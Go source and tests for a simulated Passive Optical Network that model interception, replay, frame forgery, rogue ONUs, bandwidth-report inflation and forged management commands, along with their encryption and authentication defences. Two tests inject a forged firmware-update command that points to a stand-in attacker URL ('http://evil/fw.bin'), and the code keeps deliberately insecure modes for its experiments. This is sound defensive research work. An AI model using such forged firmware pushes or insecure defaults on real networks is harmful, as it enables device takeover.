	}
	if err := olt.SendDownstream(onu.Port(), []byte("hi")); err != nil {
		t.Fatalf("SendDownstream: %v", err)
	}
	got := onu.Received()
	if len(got) != 1 || !bytes.Equal(got[0].Payload, []byte("hi")) {
		t.Fatalf("Received = %+v", got)
	}
}

func TestActivateDuplicateSerial(t *testing.T) {
	olt, _ := newOLT(t, ModePlaintext)
	if err := olt.Activate(NewONU("onu-1", nil)); err != nil {
		t.Fatal(err)
	}
	if err := olt.Activate(NewONU("onu-1", nil)); !errors.Is(err, ErrDuplicate) {
		t.Fatalf("err = %v, want ErrDuplicate", err)
	}
}

func TestSendToUnactivatedPort(t *testing.T) {
	olt, _ := newOLT(t, ModePlaintext)
	if err := olt.SendDownstream(42, []byte("x")); !errors.Is(err, ErrNotActivated) {
		t.Fatalf("err = %v, want ErrNotActivated", err)
	}
}

func TestPlaintextDownstreamVisibleToTap(t *testing.T) {
	olt, _ := newOLT(t, ModePlaintext)
	onu := NewONU("onu-1", nil)
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	var captured []XGEMFrame
	olt.AttachTap(TapFunc(func(f XGEMFrame) { captured = append(captured, f) }))
	secret := []byte("meter-reading-12345")
	if err := olt.SendDownstream(onu.Port(), secret); err != nil {
		t.Fatal(err)
	}
	if len(captured) != 1 {
		t.Fatalf("tap captured %d frames, want 1", len(captured))
	}
	if !bytes.Equal(captured[0].Payload, secret) {
		t.Fatal("plaintext mode must expose payload to a fiber tap (T1)")
	}
}

func TestEncryptedDownstreamOpaqueToTap(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	var captured []XGEMFrame
	olt.AttachTap(TapFunc(func(f XGEMFrame) { captured = append(captured, f) }))
	secret := []byte("meter-reading-12345")
	if err := olt.SendDownstream(onu.Port(), secret); err != nil {
		t.Fatal(err)
	}
	if len(captured) != 1 {
		t.Fatalf("tap captured %d frames, want 1", len(captured))
	}
	if bytes.Contains(captured[0].Payload, secret) {
		t.Fatal("encrypted mode leaked payload to tap")
	}
	// The legitimate ONU still decrypts.
	got := onu.Received()
	if len(got) != 1 || !bytes.Equal(got[0].Payload, secret) {
		t.Fatalf("ONU received %+v", got)
	}
}

func TestOtherONUCannotDecryptForeignPort(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu1 := issuedONU(t, ca, "onu-1")
	onu2 := issuedONU(t, ca, "onu-2")
	if err := olt.Activate(onu1); err != nil {
		t.Fatal(err)
	}
	if err := olt.Activate(onu2); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendDownstream(onu1.Port(), []byte("for-onu1")); err != nil {
		t.Fatal(err)
	}
	if n := len(onu2.Received()); n != 0 {
		t.Fatalf("onu2 received %d frames addressed to onu1", n)
	}
}

func TestRogueONURejectedInAuthenticatedMode(t *testing.T) {
	olt, _ := newOLT(t, ModeAuthenticated)
	rogue := NewONU("onu-rogue", nil) // no certificate at all
	if err := olt.Activate(rogue); !errors.Is(err, ErrAuthRequired) {
		t.Fatalf("err = %v, want ErrAuthRequired", err)
	}
	// A certificate from a different CA must also fail.
	otherCA, err := pki.NewCA("evil-root")
	if err != nil {
		t.Fatal(err)
	}
	fakeID, err := otherCA.Issue("onu-fake", pki.RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	if err := olt.Activate(NewONU("onu-fake", fakeID)); err == nil {
		t.Fatal("rogue ONU with foreign certificate activated")
	}
	st := olt.Stats()
	if st.AuthFailures != 2 {
		t.Fatalf("AuthFailures = %d, want 2", st.AuthFailures)
	}
}

func TestRogueONUAcceptedInEncryptedMode(t *testing.T) {
	// ModeEncrypted documents the insecure-default posture: encryption
	// without authentication admits any serial (the gap M4 closes).
	olt, _ := newOLT(t, ModeEncrypted)
	rogue := NewONU("onu-rogue", nil)
	if err := olt.Activate(rogue); err != nil {
		t.Fatalf("Activate in encrypted mode: %v", err)
	}
}

func TestReplayInjectionRejectedWhenEncrypted(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	var captured []XGEMFrame
	olt.AttachTap(TapFunc(func(f XGEMFrame) { captured = append(captured, f) }))
	if err := olt.SendDownstream(onu.Port(), []byte("cmd: open-valve")); err != nil {
		t.Fatal(err)
	}
	// Attacker replays the captured ciphertext frame verbatim.
	errs := olt.InjectDownstream(captured[0])
	if len(errs) == 0 {
		t.Fatal("replayed frame was accepted")
	}
	if !errors.Is(errs[0], ErrReplay) {
		t.Fatalf("err = %v, want ErrReplay", errs[0])
	}
	if got := len(onu.Received()); got != 1 {
		t.Fatalf("ONU processed %d frames, want 1 (replay must not duplicate)", got)
	}
	if onu.Rejected() != 1 {
		t.Fatalf("Rejected = %d, want 1", onu.Rejected())
	}
}

func TestReplaySucceedsInPlaintextMode(t *testing.T) {
	olt, _ := newOLT(t, ModePlaintext)
	onu := NewONU("onu-1", nil)
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	var captured []XGEMFrame
	olt.AttachTap(TapFunc(func(f XGEMFrame) { captured = append(captured, f) }))
	if err := olt.SendDownstream(onu.Port(), []byte("cmd")); err != nil {
		t.Fatal(err)
	}
	if errs := olt.InjectDownstream(captured[0]); len(errs) != 0 {
		t.Fatalf("plaintext replay rejected: %v", errs)
	}
	if got := len(onu.Received()); got != 2 {
		t.Fatalf("ONU processed %d frames, want 2 (plaintext accepts replays, T1)", got)
	}
}

func TestForgedFrameRejectedWhenEncrypted(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	forged := XGEMFrame{Port: onu.Port(), Seq: 99, Encrypted: true, Payload: []byte("evil")}
	errs := olt.InjectDownstream(forged)
	if len(errs) == 0 || !errors.Is(errs[0], ErrDecrypt) {
		t.Fatalf("errs = %v, want ErrDecrypt", errs)
	}
}

func TestKeyRotationKeepsChannelWorking(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendDownstream(onu.Port(), []byte("before")); err != nil {
		t.Fatal(err)
	}
	if err := olt.RotateKeys(); err != nil {
		t.Fatalf("RotateKeys: %v", err)
	}
	if err := olt.SendDownstream(onu.Port(), []byte("after")); err != nil {
		t.Fatalf("SendDownstream after rotation: %v", err)
	}
	got := onu.Received()
	if len(got) != 2 || !bytes.Equal(got[1].Payload, []byte("after")) {
		t.Fatalf("Received = %+v", got)
	}
}

func TestOldKeyUselessAfterRotation(t *testing.T) {
	kr := NewKeyRing()
	var key [32]byte
	key[0] = 7
	kr.SetKey(1, key)
	frame, err := kr.EncryptFrame(1, 1, []byte("data"))
	if err != nil {
		t.Fatal(err)
	}
	if err := kr.Rotate(1); err != nil {
		t.Fatal(err)
	}
	if _, err := kr.DecryptFrame(frame); !errors.Is(err, ErrDecrypt) {
		t.Fatalf("err = %v, want ErrDecrypt after rotation", err)
	}
	if kr.Epoch(1) != 2 {
		t.Fatalf("Epoch = %d, want 2", kr.Epoch(1))
	}
}

func TestKeyRingErrors(t *testing.T) {
	kr := NewKeyRing()
	if err := kr.Rotate(9); !errors.Is(err, ErrNoKey) {
		t.Fatalf("Rotate err = %v, want ErrNoKey", err)
	}
	if _, err := kr.EncryptFrame(9, 1, nil); !errors.Is(err, ErrNoKey) {
		t.Fatalf("EncryptFrame err = %v, want ErrNoKey", err)
	}
	if _, err := kr.DecryptFrame(XGEMFrame{Port: 9, Encrypted: false}); !errors.Is(err, ErrPlaintext) {
		t.Fatalf("DecryptFrame err = %v, want ErrPlaintext", err)
	}
	if kr.HasKey(9) {
		t.Fatal("HasKey(9) = true")
	}
}

func TestAuthenticatedModeRequiresCA(t *testing.T) {
	if _, err := NewOLT("olt", ModeAuthenticated, nil, nil); err == nil {
		t.Fatal("NewOLT accepted authenticated mode without CA")
	}
}

func TestStatsAndActiveONUs(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	for _, s := range []string{"onu-1", "onu-2", "onu-3"} {
		if err := olt.Activate(issuedONU(t, ca, s)); err != nil {
			t.Fatal(err)
		}
	}
	st := olt.Stats()
	if st.Activated != 3 || st.Mode != "authenticated" {
		t.Fatalf("Stats = %+v", st)
	}
	if got := len(olt.ActiveONUs()); got != 3 {
		t.Fatalf("ActiveONUs = %d, want 3", got)
	}
}

func TestSecurityModeString(t *testing.T) {
	if ModePlaintext.String() != "plaintext" || SecurityMode(9).String() != "mode(9)" {
		t.Fatal("SecurityMode.String mismatch")
	}
}

// Property: encrypt/decrypt round-trips arbitrary payloads for any port/seq.
func TestFrameRoundTripProperty(t *testing.T) {
	kr := NewKeyRing()
	var key [32]byte
	key[3] = 9
	kr.SetKey(5, key)
	f := func(payload []byte, seq uint64) bool {
		fr, err := kr.EncryptFrame(5, seq, payload)
		if err != nil {
			return false
		}
		pt, err := kr.DecryptFrame(fr)
		if err != nil {
			return false
		}
		return bytes.Equal(pt, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

// Property: a frame encrypted for one port never decrypts on another.
func TestCrossPortIsolationProperty(t *testing.T) {
	kr := NewKeyRing()
	var k1, k2 [32]byte
	k1[0], k2[0] = 1, 2
	kr.SetKey(1, k1)
	kr.SetKey(2, k2)
	f := func(payload []byte, seq uint64) bool {
		fr, err := kr.EncryptFrame(1, seq, payload)
		if err != nil {
			return false
		}
		fr.Port = 2 // attacker re-labels the frame
		_, err = kr.DecryptFrame(fr)
		return errors.Is(err, ErrDecrypt)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}
