// Package pon simulates a Passive Optical Network: one OLT serving many
// ONUs over a shared fiber tree. It is the hardware substrate GENIO
// repurposes for edge computing, and the stage on which threat T1 (network
// attacks: interception, replay, downstream hijacking, ONU impersonation)
// and mitigations M3 (payload encryption per ITU-T G.987.3) and M4 (mutual
// node authentication) play out.
//
// Physical fidelity note: in a real PON the downstream direction is a
// broadcast — every ONU (and every fiber tap) receives every frame and
// filters by XGEM port-ID. The simulator preserves exactly that property,
// because it is what makes unencrypted PON traffic interceptable.
package pon

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
)

// PortID identifies an XGEM port (a logical flow to one ONU).
type PortID uint16

// BroadcastPort is received by all ONUs (used for management/OMCI).
const BroadcastPort PortID = 0xffff

// XGEMFrame is a downstream or upstream PON frame in the XGEM encapsulation
// of ITU-T G.987.3.
type XGEMFrame struct {
	Port      PortID `json:"port"`
	Seq       uint64 `json:"seq"`
	Encrypted bool   `json:"encrypted"`
	Payload   []byte `json:"payload"`
}

// Errors returned by the framing layer.
var (
	ErrDecrypt   = errors.New("pon: payload decryption failed")
	ErrReplay    = errors.New("pon: replayed frame sequence")
	ErrNoKey     = errors.New("pon: no key for port")
	ErrPlaintext = errors.New("pon: plaintext frame where encryption required")
)

// KeyRing holds per-port AES keys with rotation epochs, modelling the
// OMCI-managed key exchange of G.987.3.
type KeyRing struct {
	keys   map[PortID][32]byte
	epochs map[PortID]uint32
}

// NewKeyRing creates an empty keyring.
func NewKeyRing() *KeyRing {
	return &KeyRing{keys: make(map[PortID][32]byte), epochs: make(map[PortID]uint32)}
}

// SetKey installs key material for a port, bumping the key epoch.
func (k *KeyRing) SetKey(port PortID, key [32]byte) {
	k.keys[port] = key
	k.epochs[port]++
}

// Rotate derives a fresh key for the port from the current one, modelling
// periodic key rotation without re-running onboarding.
func (k *KeyRing) Rotate(port PortID) error {
	cur, ok := k.keys[port]
	if !ok {
		return fmt.Errorf("%w: %d", ErrNoKey, port)
	}
	next := sha256.Sum256(append([]byte("genio-pon-rotate"), cur[:]...))
	k.keys[port] = next
	k.epochs[port]++
	return nil
}

// Epoch returns the rotation epoch for a port (0 if no key installed).
func (k *KeyRing) Epoch(port PortID) uint32 { return k.epochs[port] }

// HasKey reports whether a key is installed for the port.
func (k *KeyRing) HasKey(port PortID) bool {
	_, ok := k.keys[port]
	return ok
}

func (k *KeyRing) aead(port PortID) (cipher.AEAD, error) {
	key, ok := k.keys[port]
	if !ok {
		return nil, fmt.Errorf("%w: %d", ErrNoKey, port)
	}
	block, err := aes.NewCipher(key[:])
	if err != nil {
		return nil, fmt.Errorf("port %d cipher: %w", port, err)
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, fmt.Errorf("port %d gcm: %w", port, err)
	}
	return aead, nil
}

// EncryptFrame produces an encrypted XGEM frame for the port. The sequence
// number doubles as the AEAD nonce component, so it must be unique per key.
func (k *KeyRing) EncryptFrame(port PortID, seq uint64, payload []byte) (XGEMFrame, error) {
	aead, err := k.aead(port)
	if err != nil {
		return XGEMFrame{}, err
	}
	nonce := frameNonce(port, seq)
	ct := aead.Seal(nil, nonce, payload, frameAAD(port, seq))
	return XGEMFrame{Port: port, Seq: seq, Encrypted: true, Payload: ct}, nil
}

// DecryptFrame authenticates and decrypts an encrypted frame.
func (k *KeyRing) DecryptFrame(f XGEMFrame) ([]byte, error) {
	if !f.Encrypted {
		return nil, ErrPlaintext
	}
	aead, err := k.aead(f.Port)
	if err != nil {
		return nil, err
	}
	pt, err := aead.Open(nil, frameNonce(f.Port, f.Seq), f.Payload, frameAAD(f.Port, f.Seq))
	if err != nil {
		return nil, fmt.Errorf("%w: port %d seq %d", ErrDecrypt, f.Port, f.Seq)
	}
	return pt, nil
}

func frameNonce(port PortID, seq uint64) []byte {
	nonce := make([]byte, 12)
	binary.BigEndian.PutUint16(nonce[:2], uint16(port))
	binary.BigEndian.PutUint64(nonce[4:], seq)
	return nonce
}

func frameAAD(port PortID, seq uint64) []byte {
	aad := make([]byte, 10)
	binary.BigEndian.PutUint16(aad[:2], uint16(port))
	binary.BigEndian.PutUint64(aad[2:], seq)
	return aad
}
