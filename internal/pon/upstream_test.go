package pon

import (
	"bytes"
	"errors"
	"fmt"
	"testing"
)

func upstreamFixture(t *testing.T, mode SecurityMode, n int) (*OLT, []*ONU) {
	t.Helper()
	var olt *OLT
	var err error
	switch mode {
	case ModeAuthenticated:
		caObj, oltID := testCA(t)
		olt, err = NewOLT("olt-up", mode, caObj, oltID)
		if err != nil {
			t.Fatal(err)
		}
		onus := make([]*ONU, n)
		for i := range onus {
			onus[i] = issuedONU(t, caObj, fmt.Sprintf("onu-%02d", i))
			if err := olt.Activate(onus[i]); err != nil {
				t.Fatal(err)
			}
		}
		return olt, onus
	default:
		olt, err = NewOLT("olt-up", mode, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		onus := make([]*ONU, n)
		for i := range onus {
			onus[i] = NewONU(fmt.Sprintf("onu-%02d", i), nil)
			if err := olt.Activate(onus[i]); err != nil {
				t.Fatal(err)
			}
		}
		return olt, onus
	}
}

func TestUpstreamDeliveryPlaintext(t *testing.T) {
	olt, onus := upstreamFixture(t, ModePlaintext, 2)
	if err := onus[0].QueueUpstream([]byte("telemetry-a")); err != nil {
		t.Fatal(err)
	}
	if err := onus[1].QueueUpstream([]byte("telemetry-b")); err != nil {
		t.Fatal(err)
	}
	res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 1024})
	if err != nil {
		t.Fatalf("RunDBACycle: %v", err)
	}
	if len(res.Delivered["onu-00"]) != 1 || !bytes.Equal(res.Delivered["onu-00"][0], []byte("telemetry-a")) {
		t.Fatalf("delivered = %+v", res.Delivered)
	}
	if res.TotalBytes != len("telemetry-a")+len("telemetry-b") {
		t.Fatalf("TotalBytes = %d", res.TotalBytes)
	}
}

func TestUpstreamDeliveryAuthenticated(t *testing.T) {
	olt, onus := upstreamFixture(t, ModeAuthenticated, 2)
	payload := []byte("sensor-reading-42")
	if err := onus[0].QueueUpstream(payload); err != nil {
		t.Fatal(err)
	}
	res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 1024})
	if err != nil {
		t.Fatalf("RunDBACycle: %v", err)
	}
	got := res.Delivered[onus[0].Serial]
	if len(got) != 1 || !bytes.Equal(got[0], payload) {
		t.Fatalf("delivered = %q", got)
	}
}

func TestDBAProportionalAllocation(t *testing.T) {
	olt, onus := upstreamFixture(t, ModePlaintext, 2)
	// ONU 0 queues 3x the data of ONU 1.
	for i := 0; i < 3; i++ {
		if err := onus[0].QueueUpstream(make([]byte, 100)); err != nil {
			t.Fatal(err)
		}
	}
	if err := onus[1].QueueUpstream(make([]byte, 100)); err != nil {
		t.Fatal(err)
	}
	res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 200})
	if err != nil {
		t.Fatal(err)
	}
	var g0, g1 int
	for _, g := range res.Grants {
		switch g.Serial {
		case "onu-00":
			g0 = g.Granted
		case "onu-01":
			g1 = g.Granted
		}
	}
	if g0 <= g1 {
		t.Fatalf("grants = %d vs %d; heavier queue should get more", g0, g1)
	}
}

func TestDBACycleDrainsOverMultipleCycles(t *testing.T) {
	olt, onus := upstreamFixture(t, ModePlaintext, 1)
	for i := 0; i < 10; i++ {
		if err := onus[0].QueueUpstream(make([]byte, 100)); err != nil {
			t.Fatal(err)
		}
	}
	total := 0
	for cycle := 0; cycle < 10 && total < 1000; cycle++ {
		res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 300})
		if err != nil {
			t.Fatal(err)
		}
		total += res.TotalBytes
	}
	if total != 1000 {
		t.Fatalf("drained %d bytes, want 1000", total)
	}
}

func TestGreedyONUStarvesNeighborsWithoutCap(t *testing.T) {
	olt, onus := upstreamFixture(t, ModePlaintext, 4)
	for _, u := range onus {
		for i := 0; i < 4; i++ {
			if err := u.QueueUpstream(make([]byte, 100)); err != nil {
				t.Fatal(err)
			}
		}
	}
	onus[0].SetReportInflation(50) // DBA abuse
	res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 800})
	if err != nil {
		t.Fatal(err)
	}
	fair := FairnessIndex(res.Grants)
	if fair > 0.5 {
		t.Fatalf("fairness = %.2f; inflation attack should skew allocation", fair)
	}
}

func TestPerONUCapRestoresFairness(t *testing.T) {
	olt, onus := upstreamFixture(t, ModePlaintext, 4)
	for _, u := range onus {
		for i := 0; i < 4; i++ {
			if err := u.QueueUpstream(make([]byte, 100)); err != nil {
				t.Fatal(err)
			}
		}
	}
	onus[0].SetReportInflation(50)
	res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 800, PerONUCap: 200})
	if err != nil {
		t.Fatal(err)
	}
	fair := FairnessIndex(res.Grants)
	if fair < 0.9 {
		t.Fatalf("fairness = %.2f with cap; SLA cap should neutralize inflation", fair)
	}
	// Honest neighbours actually got bytes through.
	if len(res.Delivered["onu-01"]) == 0 || len(res.Delivered["onu-03"]) == 0 {
		t.Fatalf("honest ONUs starved: %+v", res.Grants)
	}
}

func TestQueueBounded(t *testing.T) {
	_, onus := upstreamFixture(t, ModePlaintext, 1)
	var err error
	for i := 0; i <= maxUpstreamQueue; i++ {
		err = onus[0].QueueUpstream([]byte("x"))
		if err != nil {
			break
		}
	}
	if !errors.Is(err, ErrQueueFull) {
		t.Fatalf("err = %v, want ErrQueueFull", err)
	}
}

func TestEmptyCycle(t *testing.T) {
	olt, _ := upstreamFixture(t, ModePlaintext, 2)
	res, err := olt.RunDBACycle(DBAConfig{CycleBytes: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if res.TotalBytes != 0 || len(res.Grants) != 0 {
		t.Fatalf("empty cycle = %+v", res)
	}
	// Zero capacity cycle.
	res, err = olt.RunDBACycle(DBAConfig{CycleBytes: 0})
	if err != nil || res.TotalBytes != 0 {
		t.Fatalf("zero-capacity cycle = %+v, %v", res, err)
	}
}

func TestFairnessIndexBounds(t *testing.T) {
	if f := FairnessIndex(nil); f != 1 {
		t.Fatalf("empty fairness = %v", f)
	}
	equal := []Grant{{Granted: 100}, {Granted: 100}, {Granted: 100}}
	if f := FairnessIndex(equal); f < 0.999 {
		t.Fatalf("equal grants fairness = %v", f)
	}
	skewed := []Grant{{Granted: 300}, {Granted: 0}, {Granted: 0}}
	if f := FairnessIndex(skewed); f > 0.34 {
		t.Fatalf("skewed fairness = %v, want ~1/3", f)
	}
	zeros := []Grant{{Granted: 0}, {Granted: 0}}
	if f := FairnessIndex(zeros); f != 1 {
		t.Fatalf("all-zero fairness = %v", f)
	}
}

func TestSetReportInflationClamps(t *testing.T) {
	_, onus := upstreamFixture(t, ModePlaintext, 1)
	onus[0].SetReportInflation(0)
	if err := onus[0].QueueUpstream(make([]byte, 10)); err != nil {
		t.Fatal(err)
	}
	if got := onus[0].reportOccupancy(); got != 10 {
		t.Fatalf("occupancy with clamped factor = %d, want 10", got)
	}
}
