package pon

// Upstream direction: in a PON all ONUs share one wavelength towards the
// OLT, so transmissions are time-division multiplexed. The OLT polls queue
// occupancy reports (DBRu) and issues bandwidth grants per service cycle —
// Dynamic Bandwidth Allocation. GENIO inherits this machinery from the
// PON substrate, and it matters to security twice over: upstream frames
// need the same payload protection as downstream (M3), and a greedy or
// compromised ONU can lie in its occupancy reports to starve neighbours —
// a physical-layer cousin of the T8 resource-abuse threat, countered by
// per-ONU grant caps (the SLA enforcement modelled here).

import (
	"errors"
	"fmt"
	"sort"
)

// ErrQueueFull is returned when an ONU's upstream queue is at capacity.
var ErrQueueFull = errors.New("pon: upstream queue full")

// maxUpstreamQueue bounds each ONU's buffered upstream payloads.
const maxUpstreamQueue = 1024

// QueueUpstream buffers a payload for upstream transmission at the next
// granted opportunity.
func (o *ONU) QueueUpstream(payload []byte) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if len(o.upstream) >= maxUpstreamQueue {
		return fmt.Errorf("%w: onu %s", ErrQueueFull, o.Serial)
	}
	o.upstream = append(o.upstream, append([]byte(nil), payload...))
	return nil
}

// reportOccupancy returns the DBRu queue report in bytes. A greedy ONU
// multiplies its true occupancy by its inflation factor.
func (o *ONU) reportOccupancy() int {
	o.mu.Lock()
	defer o.mu.Unlock()
	total := 0
	for _, p := range o.upstream {
		total += len(p)
	}
	if o.inflate > 1 {
		total *= o.inflate
	}
	return total
}

// SetReportInflation makes the ONU lie in its DBRu reports by the given
// factor (>=1). Factor 1 restores honesty. This is the attack hook for the
// DBA-abuse experiment.
func (o *ONU) SetReportInflation(factor int) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if factor < 1 {
		factor = 1
	}
	o.inflate = factor
}

// takeUpstream removes up to grant bytes of whole payloads from the queue.
func (o *ONU) takeUpstream(grant int) [][]byte {
	o.mu.Lock()
	defer o.mu.Unlock()
	var out [][]byte
	used := 0
	for len(o.upstream) > 0 {
		next := o.upstream[0]
		if used+len(next) > grant {
			break
		}
		out = append(out, next)
		used += len(next)
		o.upstream = o.upstream[1:]
	}
	return out
}

// Grant records one ONU's allocation in a DBA cycle.
type Grant struct {
	Serial   string `json:"serial"`
	Port     PortID `json:"port"`
	Reported int    `json:"reported"`
	Granted  int    `json:"granted"`
}

// CycleResult summarizes one upstream service cycle.
type CycleResult struct {
	Grants []Grant `json:"grants"`
	// Delivered maps ONU serial to payloads received by the OLT this cycle.
	Delivered map[string][][]byte `json:"-"`
	// TotalBytes actually transported upstream.
	TotalBytes int `json:"totalBytes"`
}

// DBAConfig tunes the upstream scheduler.
type DBAConfig struct {
	// CycleBytes is the total upstream capacity per service cycle.
	CycleBytes int
	// PerONUCap bounds any single ONU's grant per cycle (the SLA guard
	// against DBA abuse); 0 means uncapped.
	PerONUCap int
}

// RunDBACycle polls every activated ONU's occupancy report and distributes
// the cycle capacity. Allocation is proportional to reported occupancy,
// subject to the per-ONU cap; leftover capacity is re-offered to ONUs with
// remaining demand in serial order. Collected payloads are decrypted with
// the port key in secure modes (upstream frames carry the same protection
// as downstream).
func (o *OLT) RunDBACycle(cfg DBAConfig) (*CycleResult, error) {
	o.mu.Lock()
	type member struct {
		serial string
		port   PortID
		onu    *ONU
	}
	members := make([]member, 0, len(o.ports))
	for port, u := range o.ports {
		members = append(members, member{serial: u.Serial, port: port, onu: u})
	}
	mode := o.mode
	keyring := o.keyring
	o.mu.Unlock()
	sort.Slice(members, func(i, j int) bool { return members[i].serial < members[j].serial })

	res := &CycleResult{Delivered: make(map[string][][]byte)}
	if cfg.CycleBytes <= 0 {
		return res, nil
	}

	reports := make([]int, len(members))
	totalReported := 0
	for i, m := range members {
		reports[i] = m.onu.reportOccupancy()
		totalReported += reports[i]
	}
	if totalReported == 0 {
		return res, nil
	}

	grants := make([]int, len(members))
	remaining := cfg.CycleBytes
	for i := range members {
		g := cfg.CycleBytes * reports[i] / totalReported
		if cfg.PerONUCap > 0 && g > cfg.PerONUCap {
			g = cfg.PerONUCap
		}
		if g > remaining {
			g = remaining
		}
		grants[i] = g
		remaining -= g
	}
	// Redistribute leftover to capped/rounded-down ONUs with demand.
	for i := range members {
		if remaining <= 0 {
			break
		}
		if reports[i] > grants[i] {
			extra := reports[i] - grants[i]
			if cfg.PerONUCap > 0 && grants[i]+extra > cfg.PerONUCap {
				extra = cfg.PerONUCap - grants[i]
			}
			if extra > remaining {
				extra = remaining
			}
			grants[i] += extra
			remaining -= extra
		}
	}

	for i, m := range members {
		res.Grants = append(res.Grants, Grant{
			Serial: m.serial, Port: m.port, Reported: reports[i], Granted: grants[i],
		})
		if grants[i] == 0 {
			continue
		}
		payloads := m.onu.takeUpstream(grants[i])
		for _, p := range payloads {
			if mode != ModePlaintext {
				// Upstream frames are encrypted ONU-side with the port key
				// and validated here; the shared key makes this symmetric.
				o.mu.Lock()
				seq := o.bumpUpstreamSeq(m.port)
				frame, err := encryptWith(m.onu, m.port, seq, p)
				o.mu.Unlock()
				if err != nil {
					return res, fmt.Errorf("upstream encrypt %s: %w", m.serial, err)
				}
				pt, err := keyring.DecryptFrame(frame)
				if err != nil {
					return res, fmt.Errorf("upstream validate %s: %w", m.serial, err)
				}
				p = pt
			}
			res.Delivered[m.serial] = append(res.Delivered[m.serial], p)
			res.TotalBytes += len(p)
		}
	}
	return res, nil
}

// bumpUpstreamSeq advances the upstream sequence counter for a port
// (callers hold o.mu).
func (o *OLT) bumpUpstreamSeq(port PortID) uint64 {
	if o.upSeq == nil {
		o.upSeq = make(map[PortID]uint64)
	}
	o.upSeq[port]++
	return o.upSeq[port]
}

func encryptWith(u *ONU, port PortID, seq uint64, payload []byte) (XGEMFrame, error) {
	u.mu.Lock()
	defer u.mu.Unlock()
	return u.keys.EncryptFrame(port, seq, payload)
}

// FairnessIndex computes Jain's fairness index over per-ONU granted bytes:
// 1.0 is perfectly fair, 1/n is maximally unfair. Used by the DBA-abuse
// experiment.
func FairnessIndex(grants []Grant) float64 {
	if len(grants) == 0 {
		return 1
	}
	var sum, sumSq float64
	for _, g := range grants {
		v := float64(g.Granted)
		sum += v
		sumSq += v * v
	}
	if sumSq == 0 {
		return 1
	}
	n := float64(len(grants))
	return (sum * sum) / (n * sumSq)
}
