package pon

import (
	"errors"
	"testing"
)

func TestOMCISignedCommandExecutes(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendOMCI("onu-1", OMCIProvisionService, "vlan=200"); err != nil {
		t.Fatalf("SendOMCI: %v", err)
	}
	log := onu.OMCILog()
	if len(log.Executed) != 1 || log.Executed[0].Action != OMCIProvisionService {
		t.Fatalf("log = %+v", log)
	}
}

func TestOMCIKeyRotationKeepsDataPath(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendDownstream(onu.Port(), []byte("before")); err != nil {
		t.Fatal(err)
	}
	if err := olt.SendOMCI("onu-1", OMCIRotateKey, ""); err != nil {
		t.Fatalf("rotate via OMCI: %v", err)
	}
	// Data path still works on the rotated key.
	if err := olt.SendDownstream(onu.Port(), []byte("after")); err != nil {
		t.Fatalf("downstream after OMCI rotation: %v", err)
	}
	if got := len(onu.Received()); got != 2 {
		t.Fatalf("received = %d, want 2", got)
	}
}

func TestForgedOMCIRejectedWhenAuthenticated(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	// Attacker injects an unsigned firmware-update command.
	err := olt.InjectOMCI(OMCIMessage{Action: OMCIFirmwareUpdate, Serial: "onu-1", Arg: "http://evil/fw.bin", Seq: 99})
	if !errors.Is(err, ErrOMCIUnsigned) {
		t.Fatalf("err = %v, want ErrOMCIUnsigned", err)
	}
	log := onu.OMCILog()
	if len(log.Executed) != 0 || log.Rejected != 1 {
		t.Fatalf("log = %+v", log)
	}
}

func TestForgedOMCIExecutesInPlaintextMode(t *testing.T) {
	// The legacy posture: unsigned management commands are accepted — the
	// T2 firmware-manipulation vector on the management channel.
	olt, _ := newOLT(t, ModePlaintext)
	onu := NewONU("onu-1", nil)
	if err := olt.Activate(onu); err != nil {
		t.Fatal(err)
	}
	err := olt.InjectOMCI(OMCIMessage{Action: OMCIFirmwareUpdate, Serial: "onu-1", Arg: "http://evil/fw.bin", Seq: 1})
	if err != nil {
		t.Fatalf("plaintext injection rejected: %v", err)
	}
	if got := len(onu.OMCILog().Executed); got != 1 {
		t.Fatalf("executed = %d, want 1 (attack succeeds in legacy mode)", got)
	}
}

func TestOMCIReplayRejected(t *testing.T) {
	olt, ca := newOLT(t, ModeAuthenticated)
	onu := issuedONU(t, ca, "onu-1")
